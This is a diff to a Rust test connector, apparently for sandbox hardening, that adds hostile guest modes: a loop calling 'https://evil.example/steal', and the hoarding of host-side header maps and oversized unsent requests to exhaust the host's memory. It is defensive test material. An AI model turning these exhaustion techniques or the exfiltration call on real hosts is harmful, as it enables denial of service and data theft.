@@ -2,6 +2,7 @@
 //! value picks what it tries; each attempt must fail without harming the
 //! host or the next run.
 
+use lockgate_sdk::bindings::wasi::http::types::{Fields, OutgoingRequest};
 use lockgate_sdk::http::HttpError;
 use lockgate_sdk::prelude::*;
 
@@ -37,6 +38,28 @@ fn request(url: &str) -> Result<(), Error> {
         }
         Err(e) => Err(Error::Unreachable(e.to_string())),
     }
+}
+
+fn count(default: u64) -> u64 {
+    config::get("count")
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(default)
+}
+
+/// A header map with `header-kib` headers of 1000 bytes each (24 unless
+/// configured): what one `fields` resource makes the host hold.
+fn full_fields() -> Fields {
+    let headers: usize = config::get("header-kib")
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(24);
+    let fields = Fields::new();
+    let value = vec![b'v'; 1000];
+    for i in 0..headers {
+        if fields.append(&format!("x-pad-{i}"), &value).is_err() {
+            break;
+        }
+    }
+    fields
 }
 
 impl Connector for Hostile {
@@ -116,6 +139,16 @@ impl Connector for Hostile {
                     res.body.len()
                 )))
             }
+            "big-headers" => match http::get(&format!("http://{target}/big-headers")).send() {
+                Ok(res) => Err(Error::other(format!(
+                    "an answer with {} header bytes got through",
+                    res.headers
+                        .iter()
+                        .map(|(k, v)| k.len() + v.len())
+                        .sum::<usize>()
+                ))),
+                Err(e) => Err(Error::Unreachable(e.to_string())),
+            },
             "redirect" => {
                 // The host must hand the redirect back, not follow it.
                 let res = http::get(&format!("http://{target}/redirect")).send()?;
@@ -129,6 +162,80 @@ impl Connector for Hostile {
                     println!("stdout line {i}: {}", "y".repeat(80));
                 }
                 Ok(())
+            }
+            "deny-loop" => {
+                // Ask for an ungranted host until the deadline ends the run:
+                // every refusal must cost the host nothing lasting.
+                let mut n = 0u64;
+                loop {
+                    n = n.wrapping_add(1);
+                    let _ = std::hint::black_box(http::get("https://evil.example/steal").send());
+                }
+            }
+            "hold-fields" => {
+                // Header maps live in the host, outside the guest's memory
+                // limit; the guest keeps only their handles.
+                let mut held = Vec::new();
+                for _ in 0..count(3_000) {
+                    held.push(full_fields());
+                }
+                log::info(&format!("holding {} header maps", held.len()));
+                Ok(())
+            }
+            "hold-requests" => {
+                // Outgoing requests with full headers, long strings and a
+                // body written as far as the host allows, never sent.
+                let authority = "a".repeat(64 << 10);
+                let probe = OutgoingRequest::new(Fields::new());
+                let verdict = match probe.set_authority(Some(&authority)) {
+                    Ok(()) => "accepted",
+                    Err(()) => "refused",
+                };
+                log::info(&format!(
+                    "an authority of {} bytes was {verdict}",
+                    authority.len()
+                ));
+                drop(probe);
+                let path = format!("/{}", "p".repeat(60_000));
+                let chunk = vec![b'b'; 64 << 10];
+                let mut held = Vec::new();
+                for _ in 0..count(300) {
+                    let request = OutgoingRequest::new(full_fields());
+                    let _ = request.set_authority(Some(&authority));
+                    let _ = request.set_path_with_query(Some(&path));
+                    let Ok(body) = request.body() else {
+                        return Err(Error::other("request body refused"));
+                    };
+                    let Ok(stream) = body.write() else {
+                        return Err(Error::other("body stream refused"));
+                    };
+                    while let Ok(room) = stream.check_write() {
+                        if room == 0
+                            || stream
+                                .write(&chunk[..chunk.len().min(room as usize)])
+                                .is_err()
+                        {
+                            break;
+                        }
+                    }
+                    held.push((request, body, stream));
+                }
+                log::info(&format!("holding {} requests", held.len()));
+                Ok(())
+            }
+            "exit" => {
+                // Leave mid-call: rows reported so far stay, the staged
+                // state must not be committed.
+                lockgate_sdk::outcomes::report(&Outcome::success(
+                    "e-exit",
+                    Operation::Update,
+                    "before exit",
+                ))?;
+                state::set("set before exit")?;
+                let code = config::get("code")
+                    .and_then(|c| c.parse().ok())
+                    .unwrap_or(3);
+                std::process::exit(code)
             }
             "host-calls" => {
                 // Cheap host calls, for measuring their cost.
